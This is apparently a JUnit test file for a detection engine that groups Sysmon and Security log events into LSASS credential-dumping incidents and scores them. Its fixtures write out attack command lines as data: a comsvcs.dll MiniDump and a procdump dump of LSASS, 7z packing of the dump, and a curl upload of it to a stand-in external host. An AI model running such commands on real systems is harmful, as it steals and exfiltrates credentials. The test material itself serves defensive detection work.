package org.sysmontriage.incident;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.sysmontriage.event.Times;

class IncidentEngineTest {
  private static final String WKS = "WKS-DEV-12.acme.local";
  private static final String SRV = "SRV-FILE-01.acme.local";
  private static final String CMD = "{11111111-0000-0000-0000-00000000000a}";
  private static final String RUNDLL = "{11111111-0000-0000-0000-00000000000b}";
  private static final String SEVENZIP = "{11111111-0000-0000-0000-00000000000c}";
  private static final String CURL = "{11111111-0000-0000-0000-00000000000d}";

  /** cmd starts comsvcs MiniDump on lsass, the dump is written, 7z packs it two minutes later, curl sends it. */
  private static Story comsvcsStory() {
    return new Story()
        .sysmon(WKS, 0, 1, "ProcessGuid", RUNDLL, "ProcessId", "4242", "Image", "C:\\Windows\\System32\\rundll32.exe",
            "CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full",
            "ParentProcessGuid", CMD, "ParentImage", "C:\\Windows\\System32\\cmd.exe", "User", "ACME\\j.ortega", "LogonId", "0x5a1f3")
        .hit("T-COMSVCS", 80, "T1003.001")
        .sysmon(WKS, 1, 10, "SourceProcessGUID", RUNDLL, "SourceProcessId", "4242", "SourceImage", "C:\\Windows\\System32\\rundll32.exe",
            "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1fffff")
        .hit("T-ACCESS", 52, "T1003.001")
        .sysmon(WKS, 2, 11, "ProcessGuid", RUNDLL, "ProcessId", "4242", "Image", "C:\\Windows\\System32\\rundll32.exe",
            "TargetFilename", "C:\\temp\\out.dmp")
        .sysmon(WKS, 120, 1, "ProcessGuid", SEVENZIP, "ProcessId", "5151", "Image", "C:\\Tools\\7z.exe",
            "CommandLine", "7z.exe a C:\\temp\\out.7z C:\\temp\\out.dmp", "ParentProcessGuid", CMD, "User", "ACME\\j.ortega")
        .sysmon(WKS, 125, 11, "ProcessGuid", SEVENZIP, "ProcessId", "5151", "Image", "C:\\Tools\\7z.exe", "TargetFilename", "C:\\temp\\out.7z")
        .sysmon(WKS, 300, 1, "ProcessGuid", CURL, "ProcessId", "6161", "Image", "C:\\Windows\\System32\\curl.exe",
            "CommandLine", "curl.exe -T C:\\temp\\out.7z https://files.example.net/u", "ParentProcessGuid", CMD)
        .sysmon(WKS, 4000, 1, "ProcessGuid", "{11111111-0000-0000-0000-0000000000ee}", "Image", "C:\\Windows\\notepad.exe",
            "CommandLine", "notepad.exe C:\\temp\\todo.txt", "ParentProcessGuid", CMD);
  }

  @Test
  void toolLsassAccessDumpAndItsPackingAreOneStory() {
    IncidentResult r = comsvcsStory().incidents();
    assertEquals(1, r.incidents().size());
    Incident i = r.incidents().get(0);
    assertEquals(Outcome.DUMP, i.outcome(), i.outcomeReason());
    assertEquals(List.of(WKS), i.hosts());
    assertEquals(List.of("ACME\\j.ortega"), i.users());
    assertEquals(2, i.hits().size());
    List<String> summaries = i.steps().stream().map(Step::summary).toList();
    assertEquals(6, summaries.size(), summaries.toString());
    assertTrue(summaries.get(2).contains("wrote C:\\temp\\out.dmp"), summaries.toString());
    assertTrue(summaries.get(3).contains("7z.exe a C:\\temp\\out.7z"), summaries.toString());
    assertTrue(summaries.get(4).contains("wrote C:\\temp\\out.7z"), summaries.toString());
    assertTrue(summaries.get(5).contains("curl.exe -T"), summaries.toString());
    assertNull(i.steps().get(3).analyticId(), "context steps name no analytic");
    assertEquals("T-COMSVCS", i.steps().get(0).analyticId());
    assertEquals(List.of("out.dmp", "out.7z"), i.dumpFiles());
    // 80 + 0 techniques + 0 sources + 5 x 3 stages (access, dump written, dump handled)
    assertEquals(95, i.score().value(), i.score().formula());
    assertTrue(i.score().formula().startsWith("80 (strongest hit, T-COMSVCS)"), i.score().formula());
  }

  @Test
  void theProcessTreeShowsTheIncidentsProcessesAndTheirSiblingsUnderTheSharedParent() {
    Incident i = comsvcsStory().incidents().incidents().get(0);
    List<String> images = i.processes().stream().map(p -> p.depth() + " " + Summaries.shortImage(p.image())).toList();
    assertEquals(List.of("0 rundll32.exe"), images, "cmd.exe has no creation event, so rundll32 is a root");
  }

  @Test
  void aSingleWeakSignalStaysLowAndRepeatsOfOneAnalyticAddNothing() {
    Story s = new Story();
    for (int k = 0; k < 5; k++) {
      s.sysmon(WKS, k, 10, "SourceProcessGUID", RUNDLL, "SourceImage", "C:\\x\\tool.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
          "GrantedAccess", "0x1400").hit("T-QUERY", 20, "T1003.001");
    }
    Incident i = s.incidents().incidents().get(0);
    assertEquals(20, i.score().value(), i.score().formula());
    assertEquals(5, i.hits().size());
    assertEquals(Outcome.ATTEMPT, i.outcome(), "0x1400 cannot read memory");
  }

  @Test
  void distinctTechniquesAndIndependentSourcesRaiseTheScore() {
    Story s = new Story()
        .sysmon(WKS, 0, 10, "SourceProcessGUID", RUNDLL, "SourceProcessId", "4242", "SourceImage", "C:\\x\\tool.exe",
            "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1010").hit("T-A", 40, "T1003.001")
        .security(WKS, 1, 4663, "ProcessId", "0x1092", "ProcessName", "C:\\x\\tool.exe",
            "ObjectName", "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "AccessMask", "0x10").hit("T-B", 40, "T1003");
    Incident i = s.incidents().incidents().get(0);
    assertEquals(1, s.incidents().incidents().size());
    assertEquals(Outcome.READ, i.outcome());
    assertEquals(40 + 10 + 10, i.score().value(), i.score().formula());
  }

  @Test
  void unrelatedHitsOrHitsBeyondTheWindowStayApartButOneProcessGuidTiesAtAnyDistance() {
    Story s = new Story()
        .sysmon(WKS, 0, 10, "SourceProcessGUID", RUNDLL, "SourceImage", "C:\\x\\a.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess", "0x1010").hit("T-A", 50, "T1003.001")
        .sysmon(WKS, 7200, 10, "SourceProcessGUID", CURL, "SourceImage", "C:\\x\\b.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess", "0x1010").hit("T-A", 50, "T1003.001")
        .sysmon(WKS, 86_400, 11, "ProcessGuid", RUNDLL, "Image", "C:\\x\\a.exe", "TargetFilename", "C:\\x\\a.dmp").hit("T-F", 70, "T1003.001");
    IncidentResult r = s.incidents();
    assertEquals(2, r.incidents().size());
    assertEquals(2, r.incidents().get(0).hits().size(), "a.exe's access and its dump a day later share the ProcessGuid");
    IncidentResult wide = s.incidents(new IncidentOptions(3 * 3600 * Times.TICKS_PER_SECOND, List.of()));
    assertEquals(1, wide.incidents().size(), "both LSASS accesses lie within a 3 h window");
  }

  @Test
  void aSecurityClockHoursOffIsFoundAndOnlyAppliedWhenConfirmed() {
    long off = 19 * 3600;
    Story s = new Story()
        .sysmon(WKS, off, 1, "ProcessGuid", RUNDLL, "ProcessId", "3420", "Image", "C:\\Program Files\\procdump.exe",
            "CommandLine", "procdump.exe -ma lsass.exe C:\\Windows\\Temp\\l.dmp", "User", "ACME\\j.ortega").hit("T-TOOL", 80, "T1003.001")
        .security(WKS, 0, 4688, "NewProcessId", "0xd5c", "NewProcessName", "C:\\Program Files\\procdump.exe", "ProcessId", "0x1b48",
            "CommandLine", "procdump.exe -ma lsass.exe C:\\Windows\\Temp\\l.dmp", "SubjectUserName", "j.ortega").hit("T-TOOL", 80, "T1003.001")
        .security(WKS, 1, 4663, "ProcessId", "0xd5c", "ProcessName", "C:\\Program Files\\procdump.exe",
            "ObjectName", "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "AccessMask", "0x10").hit("T-SEC", 52, "T1003.001");
    IncidentResult before = s.incidents();
    assertEquals(2, before.incidents().size());
    assertEquals(1, before.detectedSkews().size());
    ClockSkew skew = before.detectedSkews().get(0);
    assertEquals("+19:00:00.000", skew.offsetText());
    assertEquals(1, before.pendingSkews().size());
    IncidentResult after = s.incidents(IncidentOptions.defaults().withSkews(before.detectedSkews()));
    assertEquals(1, after.incidents().size());
    Incident i = after.incidents().get(0);
    assertEquals(Outcome.DUMP, i.outcome(), "the dumping command line names its file and the process read LSASS");
    Step sec = i.steps().stream().filter(st -> st.evidence().equals("Security")).findFirst().orElseThrow();
    assertEquals(off * Times.TICKS_PER_SECOND, sec.ticks() - sec.rawTicks(), "raw time kept beside the corrected one");
    assertEquals(List.of("ACME\\j.ortega"), i.users());
    assertEquals(0, after.pendingSkews().size());
  }

  @Test
  void theSameDumpFileNameOnTwoHostsIsACampaign() {
    Story s = new Story()
        .sysmon(WKS, 0, 11, "ProcessGuid", RUNDLL, "Image", "C:\\x\\d.exe", "TargetFilename", "C:\\temp\\acme-lsass.dmp").hit("T-F", 70, "T1003.001")
        .sysmon(SRV, 60, 11, "ProcessGuid", CURL, "Image", "C:\\y\\e.exe", "TargetFilename", "D:\\acme-lsass.dmp").hit("T-F", 70, "T1003.001");
    IncidentResult r = s.incidents();
    assertEquals(2, r.incidents().size());
    assertEquals(1, r.campaigns().size());
    assertEquals("dump file acme-lsass.dmp", r.campaigns().get(0).link());
    assertEquals(List.of(WKS, SRV), r.campaigns().get(0).hosts());
    assertTrue(r.incidents().stream().allMatch(i -> "CMP-1".equals(i.campaignId())));
  }
}
